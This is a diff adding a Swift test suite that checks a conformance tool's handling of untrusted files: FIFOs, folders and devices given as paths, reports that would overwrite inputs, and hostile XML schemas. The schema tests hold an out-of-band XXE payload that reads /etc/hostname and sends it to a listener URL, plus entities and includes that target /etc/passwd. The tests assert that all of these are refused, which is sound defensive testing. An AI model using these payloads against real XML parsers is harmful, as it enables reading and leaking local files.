@@ -1,0 +1,262 @@
+import Foundation
+import Testing
+
+@testable import ConformKit
+
+/// Files are untrusted: a suite, a schema or a report path that names a FIFO, a device, a socket or a
+/// folder is refused with exit status 2 before anything is opened or sent; a report never replaces a file
+/// conform was given to read; a hostile XSD reads nothing and reaches nothing.
+@Suite struct HostileFilesTests {
+    private static let pitchpoint = TestPaths.suite("pitchpoint.json")
+
+    private func runAgainstCountingMock(
+        _ suites: [String], arguments: @escaping (inout RunOptions) -> Void = { _ in }
+    ) async throws -> (RunOutcome, Int) {
+        let mock = try await StartedMock.start(.pitchpoint)
+        let outcome = await runConform(
+            suites,
+            arguments: { options in
+                options.baseURL = mock.baseURL
+                arguments(&options)
+            }, environment: mock.environment)
+        await mock.server.stop()
+        return (outcome, mock.recorder.requestCount)
+    }
+
+    private func fifo(in folder: URL, named name: String) throws -> String {
+        let path = folder.appendingPathComponent(name).path
+        try #require(mkfifo(path, 0o600) == 0)
+        return path
+    }
+
+    @Test func aSuiteThatIsAFIFOOrAFolderIsRefusedWithoutWaiting() async throws {
+        let folder = TestPaths.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let pipe = try fifo(in: folder, named: "suite.json")
+        let (outcome, requests) = try await runAgainstCountingMock([pipe, folder.path])
+        #expect(outcome.status == .invalid)
+        #expect(requests == 0)
+        #expect(
+            outcome.stderr == """
+                \(pipe): error: cannot read the suite file: it is a FIFO (named pipe), not a regular file
+                \(folder.path): error: cannot read the suite file: it is a folder, not a regular file
+
+                """)
+    }
+
+    @Test func aSchemaThatIsAFIFOIsRefusedWithoutWaiting() async throws {
+        let folder = TestPaths.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        _ = try fifo(in: folder, named: "token.xsd")
+        let suite = folder.appendingPathComponent("suite.json").path
+        try Data(Self.xmlSuite(schema: "token.xsd").utf8).write(to: URL(fileURLWithPath: suite))
+        let (outcome, requests) = try await runAgainstCountingMock([suite])
+        #expect(outcome.status == .invalid)
+        #expect(requests == 0)
+        #expect(
+            outcome.stderr.contains(
+                "error: cannot use XML schema 'token.xsd': \(folder.path)/token.xsd: it is a FIFO (named pipe), not a regular file"
+            ))
+    }
+
+    @Test(arguments: ["/dev/null", "FIFO", "FOLDER"])
+    func aReportPathThatIsNotARegularFileIsRefusedBeforeSending(kind: String) async throws {
+        let folder = TestPaths.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let path: String
+        let words: String
+        switch kind {
+        case "FIFO":
+            path = try fifo(in: folder, named: "report.xml")
+            words = "a FIFO (named pipe)"
+        case "FOLDER":
+            path = folder.path
+            words = "a folder"
+        default:
+            path = kind
+            words = "a character device"
+        }
+        for option in ["junit", "html"] {
+            let (outcome, requests) = try await runAgainstCountingMock([Self.pitchpoint]) {
+                if option == "junit" { $0.junitPath = path } else { $0.htmlReportPath = path }
+            }
+            #expect(outcome.status == .invalid)
+            #expect(requests == 0)
+            #expect(
+                outcome.stderr
+                    == "conform: error: cannot write the report \(path): it is \(words); reports are written to regular files only\n"
+            )
+        }
+        var status = stat()
+        #expect(stat("/dev/null", &status) == 0 && status.st_mode & S_IFMT == S_IFCHR)
+    }
+
+    @Test func aSymbolicLinkIsWrittenThroughAndStaysALink() async throws {
+        let folder = TestPaths.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let target = folder.appendingPathComponent("real.xml").path
+        try Data("old".utf8).write(to: URL(fileURLWithPath: target))
+        try #require(chmod(target, 0o640) == 0)
+        let link = folder.appendingPathComponent("link.xml").path
+        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target)
+        let (outcome, _) = try await runAgainstCountingMock([Self.pitchpoint]) { $0.junitPath = link }
+        #expect(outcome.status == .passed)
+        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: link) == target)
+        let written = try #require(FileManager.default.contents(atPath: target))
+        #expect(JUnitSchemas.problems(written) == [])
+        var status = stat()
+        #expect(stat(target, &status) == 0 && status.st_mode & 0o777 == 0o640)
+    }
+
+    @Test func aReportThatIsAnInputOrAnotherReportIsRefused() async throws {
+        let folder = TestPaths.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let suite = folder.appendingPathComponent("suite.json").path
+        try FileManager.default.copyItem(atPath: Self.pitchpoint, toPath: suite)
+        let before = try #require(FileManager.default.contents(atPath: suite))
+        let (outcome, requests) = try await runAgainstCountingMock([suite]) {
+            $0.junitPath = suite
+            $0.htmlReportPath = folder.appendingPathComponent("../\(folder.lastPathComponent)/suite.json").path
+        }
+        #expect(outcome.status == .invalid)
+        #expect(requests == 0)
+        #expect(
+            outcome.stderr == """
+                conform: error: --junit \(suite) is \(suite), an input of this run: conform would replace it
+                conform: error: --report-html \(folder.path)/../\(folder.lastPathComponent)/suite.json is \(suite), an input of this run: conform would replace it
+
+                """)
+        #expect(FileManager.default.contents(atPath: suite) == before)
+
+        let html = folder.appendingPathComponent("same.xml").path
+        let (twice, sent) = try await runAgainstCountingMock([Self.pitchpoint]) {
+            $0.junitPath = html
+            $0.htmlReportPath = html
+        }
+        #expect(twice.status == .invalid)
+        #expect(sent == 0)
+        #expect(
+            twice.stderr
+                == "conform: error: --report-html \(html) is also --junit \(html): one report would replace the other\n")
+    }
+
+    @Test func mergeRefusesToWriteOverOneOfItsInputs() throws {
+        let folder = TestPaths.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let input = folder.appendingPathComponent("a.xml").path
+        let report = try JUnitWriter.document(for: [])
+        try report.write(to: URL(fileURLWithPath: input))
+        let errors = BufferedOutput()
+        let status = ConformMerge.run(inputs: [input], output: input, console: BufferedOutput(), errors: errors)
+        #expect(status == .invalid)
+        #expect(errors.text == "conform: error: --junit \(input) is \(input), an input of this run: conform would replace it\n")
+        #expect(FileManager.default.contents(atPath: input) == report)
+    }
+
+    // MARK: Hostile schemas
+
+    private static func xmlSuite(schema: String) -> String {
+        """
+        {"format": 1, "name": "xml", "cases": [
+          {"name": "a", "request": {"method": "GET", "path": "/a"},
+           "expect": {"status": 200, "body": {"xml_schema": "\(schema)"}}}
+        ]}
+        """
+    }
+
+    /// Lints a suite whose schema is `text`, with `files` beside it; returns what lint printed and how many
+    /// requests a listener on loopback (named in the schema as `LISTENER`) received.
+    private func lintSchema(_ text: String, files: [String: String] = [:]) async throws -> (String, Int) {
+        let folder = TestPaths.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let listener = RecordingEndpoint(FixedEndpoint(response: .full(status: .ok, contentType: "text/plain", body: Data())))
+        let server = try await MockServer.start(listener, configuration: MockConfiguration())
+        let schemaText = text.replacingOccurrences(of: "LISTENER", with: server.baseURL.absoluteString)
+        try Data(schemaText.utf8).write(to: folder.appendingPathComponent("token.xsd"))
+        for (name, content) in files {
+            try Data(content.utf8).write(to: folder.appendingPathComponent(name))
+        }
+        let suite = folder.appendingPathComponent("suite.json").path
+        try Data(Self.xmlSuite(schema: "token.xsd").utf8).write(to: URL(fileURLWithPath: suite))
+        let errors = BufferedOutput()
+        var options = RunOptions(suitePaths: [suite])
+        options.baseURL = "http://127.0.0.1:9"
+        _ = ConformLint.run(options, environment: [:], output: BufferedOutput(), errors: errors)
+        try await Task.sleep(for: .milliseconds(100))
+        await server.stop()
+        return (errors.text.replacingOccurrences(of: folder.path, with: "DIR"), listener.requestCount)
+    }
+
+    @Test func aSchemaWithADoctypeIsRefusedAndReachesNothing() async throws {
+        // Parameter entities that read a local file and send it to a URL (out-of-band XXE).
+        let (errors, requests) = try await lintSchema(
+            """
+            <?xml version="1.0"?>
+            <!DOCTYPE xs:schema [
+              <!ENTITY % file SYSTEM "file:///etc/hostname">
+              <!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM 'LISTENER/?%file;'>">
+              %wrap; %send;
+            ]>
+            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="Token"/></xs:schema>
+            """)
+        #expect(requests == 0)
+        #expect(
+            errors
+                == "DIR/suite.json:3:53: error: cannot use XML schema 'token.xsd': document type declarations are not accepted in a schema\n"
+        )
+    }
+
+    @Test func includesOutsideTheSuitesFolderAndURLsAreRefused() async throws {
+        let (outside, _) = try await lintSchema(
+            """
+            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
+              <xs:include schemaLocation="/etc/passwd"/>
+              <xs:element name="Token"/>
+            </xs:schema>
+            """)
+        #expect(
+            outside
+                == "DIR/suite.json:3:53: error: cannot use XML schema 'token.xsd': include or import refused: /etc/passwd: outside the suite's folder\n"
+        )
+        let (remote, requests) = try await lintSchema(
+            """
+            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
+              <xs:import namespace="urn:x" schemaLocation="LISTENER/remote.xsd"/>
+              <xs:element name="Token"/>
+            </xs:schema>
+            """)
+        #expect(requests == 0)
+        #expect(remote.contains("/remote.xsd: only files in the suite's folder can be included, not URLs\n"))
+    }
+
+    @Test func anIncludedSchemaWithADoctypeIsRefused() async throws {
+        let (errors, _) = try await lintSchema(
+            """
+            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
+              <xs:include schemaLocation="part.xsd"/>
+            </xs:schema>
+            """,
+            files: [
+                "part.xsd": """
+                <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
+                <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="Token"/></xs:schema>
+                """
+            ])
+        #expect(errors.contains("DIR/part.xsd: document type declarations are not accepted in a schema"))
+    }
+
+    @Test func anIncludeInTheSuitesFolderWorks() async throws {
+        let (errors, _) = try await lintSchema(
+            """
+            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
+              <xs:include schemaLocation="part.xsd"/>
+            </xs:schema>
+            """,
+            files: [
+                "part.xsd": """
+                <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="Token"/></xs:schema>
+                """
+            ])
+        #expect(errors == "")
+    }
+}
